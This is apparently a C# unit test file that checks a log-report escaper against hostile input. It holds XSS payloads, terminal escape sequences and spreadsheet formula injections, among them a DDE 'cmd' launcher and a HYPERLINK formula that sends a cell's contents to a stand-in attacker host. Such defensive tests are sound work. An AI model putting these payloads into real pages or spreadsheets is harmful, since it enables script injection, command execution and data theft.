using OpsLogTools.Core.Text;
using Xunit;

namespace OpsLogTools.Core.Tests.Reports;

/// <summary>The escaping every log-derived string in a report goes through, on hostile input (inputs hand-written after common XSS, terminal-escape and CSV-injection payloads).</summary>
public class ReportTextTests
{
    public static TheoryData<string> Hostile => new()
    {
        "</script><img src=x onerror=alert(1)>",
        "\"><svg onload=alert(document.domain)>",
        "'><iframe src=javascript:alert(1)>",
        "javascript:alert(1)",
        "<a href=\"http://evil.example/\">click</a>",
        "\u001b[31mRED\u001b[0m\u001b]0;owned\u0007",
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "  =1+1",
        "a|b|c\n| x | y |\r\n# heading",
        "`code` **bold** _em_ [link](http://evil.example) ![img](x.png)",
        "www.evil.example and http://evil.example/x and bot@evil.example",
        "abc\u202Egnp.exe",
        "line\u2028break\u2029para",
    };

    [Theory]
    [MemberData(nameof(Hostile))]
    public void Html_never_yields_markup_or_controls(string input)
    {
        string html = ReportText.Html(input);
        Assert.DoesNotContain('<', html);
        Assert.DoesNotContain('>', html);
        Assert.DoesNotContain('"', html);
        Assert.DoesNotContain('\'', html.TrimStart('\''));   // the formula guard's own apostrophe aside
        Assert.DoesNotContain('`', html);
        Assert.DoesNotContain(html, c => c < 0x20 || c is >= '\u007F' and <= '\u009F' || c is '\u2028' or '\u2029' or '\u202E');
        // Every '&' starts one of the references the escaper writes.
        for (int i = html.IndexOf('&'); i >= 0; i = html.IndexOf('&', i + 1))
        {
            string rest = html[i..];
            Assert.True(rest.StartsWith("&amp;") || rest.StartsWith("&lt;") || rest.StartsWith("&gt;") || rest.StartsWith("&quot;") || rest.StartsWith("&#39;") || rest.StartsWith("&#96;"), rest);
        }
    }

    [Fact]
    public void Html_keeps_the_text_readable()
    {
        Assert.Equal("&lt;/script&gt;&lt;img src=x onerror=alert(1)&gt;", ReportText.Html("</script><img src=x onerror=alert(1)>"));
        Assert.Equal("&quot;&gt;&lt;svg onload=x&gt;", ReportText.Html("\"><svg onload=x>"));
        Assert.Equal("Mozilla/5.0 (compatible; Googlebot/2.1)", ReportText.Html("Mozilla/5.0 (compatible; Googlebot/2.1)"));
        Assert.Equal("日本語のログ", ReportText.Html("日本語のログ"));
    }

    [Fact]
    public void Terminal_escapes_become_visible_stand_ins()
    {
        string clean = ReportText.Clean("\u001b[31mRED\u001b[0m\u009b2J");
        Assert.Equal("\u241b[31mRED\u241b[0m\\u009b2J", clean);   // C1 CSI named, as the console shows it
        Assert.DoesNotContain('\u001b', ReportText.Markdown("\u001b[31m"));
    }

    [Theory]
    [InlineData("=HYPERLINK(\"http://x\",\"y\")")]
    [InlineData("+1+1")]
    [InlineData("-1+1")]
    [InlineData("@SUM(A1)")]
    [InlineData("\t=1")]
    [InlineData("\r=1")]
    [InlineData(" =1")]
    [InlineData("\uFF1D1+1")]
    public void Formula_prefixes_are_defused(string input)
    {
        Assert.StartsWith("'", ReportText.Plain(input));
        Assert.StartsWith("&#39;", ReportText.Html(input));
        // A value with '@' is set as a code span (no autolink, no mention): the apostrophe still leads its text.
        Assert.StartsWith("'", ReportText.Markdown(input).TrimStart('`'));
    }

    [Theory]
    [InlineData("/index.html")]
    [InlineData("GET / HTTP/1.1")]
    [InlineData("141.98.10.14")]
    public void Ordinary_values_are_not_defused(string input) => Assert.Equal(input, ReportText.Plain(input));

    [Fact]
    public void Markdown_cell_cannot_break_the_table_or_make_links()
    {
        string cell = ReportText.Markdown("a|b\nc\r\n| d |");
        Assert.DoesNotContain('\n', cell);
        Assert.DoesNotContain('\r', cell);
        // Every pipe is escaped.
        for (int i = cell.IndexOf('|'); i >= 0; i = cell.IndexOf('|', i + 1)) Assert.Equal('\\', cell[i - 1]);

        string link = ReportText.Markdown("[click](javascript:alert(1)) <script>x</script> `code`");
        Assert.DoesNotContain("](", link.Replace("\\]", ""), StringComparison.Ordinal);
        Assert.DoesNotContain('<', link);
        Assert.Contains("\\[click\\]", link);
        Assert.Contains("\\`code\\`", link);

        string auto = ReportText.Markdown("see http://evil.example/ or www.evil.example or bot@evil.example");
        Assert.DoesNotContain("http://", auto, StringComparison.Ordinal);
        Assert.DoesNotContain("www.", auto, StringComparison.Ordinal);
        // Defused with visible syntax only (escapes and a code span), nothing invisible that a copy would carry along.
        Assert.Equal("see http\\://evil.example/ or www\\.evil.example or `bot@evil.example`", auto);
        Assert.DoesNotContain('\u200B', auto);
        Assert.Equal("`a\\|b@c.example`", ReportText.Markdown("a|b@c.example"));
        Assert.Equal("``x`@y``", ReportText.Markdown("x`@y"));

        Assert.StartsWith("\\#", ReportText.Markdown("# heading"));
        Assert.Equal("\\*\\*bold\\*\\* \\_em\\_ \\~\\~", ReportText.Markdown("**bold** _em_ ~~"));
    }

    [Fact]
    public void Over_long_values_are_cut()
    {
        string text = new('A', 100_000);
        Assert.Equal(ReportText.MaxLength + 1, ReportText.Clean(text).Length);
        Assert.EndsWith("…", ReportText.Html(text));
    }

    [Fact]
    public void Null_and_empty_give_empty()
    {
        Assert.Equal("", ReportText.Html(null));
        Assert.Equal("", ReportText.Markdown(""));
        Assert.Equal("", ReportText.Plain(null));
    }
}
